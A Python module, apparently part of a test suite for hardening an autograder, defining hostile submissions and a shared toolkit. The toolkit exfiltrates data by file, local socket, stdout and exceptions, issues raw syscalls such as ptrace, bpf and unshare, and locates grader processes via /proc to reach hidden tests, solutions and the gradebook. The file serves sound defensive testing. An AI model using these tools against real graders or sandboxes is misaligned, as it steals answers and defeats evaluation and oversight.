"""What an attack is, and the tools that every attacker brings along."""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from dataclasses import dataclass

GROUPS = ("forge", "steal", "deny", "escape", "nondeterminism")

# Two exercises are solved honestly; the other two may not earn anything.
HONEST = """\
import numpy as np

def linear_approx(f0, df0, dx):
    return f0 + df0 * np.asarray(dx, dtype=float)

def taylor_errors(f, f0, df0, x0, dx):
    return np.array([abs(f(x0 + step) - f0 - df0 * step) for step in dx])

def quadratic_approx(f0, df0, d2f0, dx):
    raise NotImplementedError

def question_1():
    raise NotImplementedError

def question_2():
    raise NotImplementedError

def question_3():
    raise NotImplementedError
"""

# The supervisor puts in what stands between @ signs: the attacker knows all paths and numbers.
TOOLS = '''\
import os, sys, time, signal

RUN, PORT, KNOCK, DECOY, TOKEN = "@RUN@", @PORT@, @KNOCK@, @DECOY@, "@TOKEN@"
COURSE, DROP, ADDRESS = RUN + "/course", RUN + "/drop/@NAME@", @ADDRESS@
GRADEBOOK = COURSE + "/gradebook.csv"
HIDDEN = COURSE + "/solutions/@FOLDER@/test_hidden.py"
SOLUTION = COURSE + "/solutions/@FOLDER@/@NAME@.py"

def tell(what, mark="WO" "N: "):
    """Carry `what` out by every way that is open; the last is an exception's text."""
    boast = mark + (what if isinstance(what, str) else repr(what))[-3000:]
    try:
        with open(DROP + "/told", "a") as file:
            file.write(boast)
    except BaseException:
        pass
    try:
        import socket
        with socket.create_connection(("127.0.0.1", PORT), 0.2) as line:
            line.sendall(boast.encode())
    except BaseException:
        pass
    try:
        os.write(1, boast.encode() + b"\\n")
    except BaseException:
        pass
    raise RuntimeError(boast[:1900])

def leak(what):
    """Tell what was found, which may be nothing."""
    tell(what, "")

def syscall(name, *arguments):
    """Call the kernel without Python's help; OSError as it says."""
    import ctypes
    x86 = os.uname().machine == "x86_64"
    number = NUMBERS[name][0 if x86 else 1]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(number), *[
        ctypes.c_long(one) if isinstance(one, int) else one for one in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result

NUMBERS = {
    "open": (2, -1), "openat": (257, 56), "fork": (57, -1), "clone": (56, 220), "kill": (62, 129),
    "ptrace": (101, 117), "mount": (165, 40), "unshare": (272, 97), "add_key": (248, 217),
    "keyctl": (250, 219), "shmget": (29, 194), "mq_open": (240, 180), "memfd_create": (319, 279),
    "personality": (135, 92), "io_uring_setup": (425, 425), "bpf": (321, 280),
    "userfaultfd": (323, 282), "perf_event_open": (298, 241), "timer_create": (222, 107),
    "prctl": (157, 167), "process_vm_readv": (310, 270), "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438), "pidfd_send_signal": (424, 424), "ioprio_set": (251, 30),
    "inotify_init1": (294, 26), "open_by_handle_at": (304, 265), "openat2": (437, 437),
    "syslog": (103, 116), "chroot": (161, 51), "execveat": (322, 281), "mknodat": (259, 33),
    "prlimit64": (302, 261), "clone3": (435, 435), "semget": (64, 190), "msgget": (68, 186),
    "fsopen": (430, 430), "socket": (41, 198), "modify_ldt": (154, -1), "swapoff": (168, 225),
    "name_to_handle_at": (303, 264), "fanotify_init": (300, 262), "mq_unlink": (241, 181),
}

def above():
    """The grader and its helpers: the processes over this one, below the test's supervisor."""
    found, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if b"supervise.py" in file.read():
                    break
            found.append(pid)
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            parent = os.getppid()
            return found + [parent] * (len(found) < 2 and parent > 1 and parent != DECOY)
    return found[1:] or found
'''


@dataclass(frozen=True)
class Attack:
    """A hostile submission, what it is after, and why it does not get it."""

    name: str
    group: str
    source: str
    reason: str  # one sentence: why it fails here
    stopped_at: str = "L2"  # the lowest level that promises to stop it
    allowed: float = 0.0  # points that may be had without a solution, for known public answers
    spoils: str = ""  # why its own honest part may lose points by it
    seconds: float = 0.6  # the deadline of a check
    teeth: bool = True  # whether the naive grader falls for it
    because: str = ""  # why not
    root: bool = False  # whether it needs root to have teeth
    first: str = ""  # what another student, graded just before, hands in
    link: bool = False  # hand in a link to the solution instead of a file
    files: tuple[tuple[str, bytes], ...] = ()  # hand in these instead: their endings and bytes
    unreadable: bool | None = None  # whether it has to be refused, or read; None if either will do
    megabytes: int = 900  # that the grader itself may take
    before: str = ""  # what it did to an earlier grader, which did not bound itself

    def text(self, folder: str) -> str:
        """The whole submission, before the supervisor fills in what is known only then."""
        text = f"{HONEST}\n{TOOLS}\n{self.source}\n"
        return text.replace("@NAME@", self.name).replace("@FOLDER@", folder)


def inside(body: str, function: str = "quadratic_approx(f0, df0, d2f0, dx)") -> str:
    """Return an attack that waits in a function until it is called."""
    return f"def {function}:\n" + textwrap.indent(textwrap.dedent(body).strip(), "    ") + "\n"


def loaded(code: str) -> str:
    """Return an attack that begins while the submission loads."""
    return textwrap.dedent(code).strip() + "\n"


def everywhere(body: str) -> str:
    """Return an attack that waits in each function that is not solved."""
    names = ("quadratic_approx(f0, df0, d2f0, dx)", "question_1()", "question_2()", "question_3()")
    return "".join(inside(body, name) for name in names)


def collect(group: str) -> tuple[list[Attack], Callable[..., None]]:
    """Return a list of attacks of `group` and the function that adds one to it."""
    attacks: list[Attack] = []

    def add(name: str, source: str, reason: str, **more: object) -> None:
        attacks.append(Attack(name, group, source, reason, **more))  # type: ignore[arg-type]

    return attacks, add
